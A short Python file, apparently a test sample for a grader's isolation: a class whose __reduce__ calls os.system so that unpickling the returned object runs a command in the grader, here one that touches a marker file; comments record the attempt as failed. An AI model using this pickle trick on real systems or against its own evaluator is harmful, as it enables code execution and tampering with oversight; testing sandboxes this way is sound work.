"""Tries to run code in the grader when its result is unpickled."""
# ends: failed
# from: level 1

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch '" + HOME + "/harmed'",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()


def f(x):
    return Bomb()
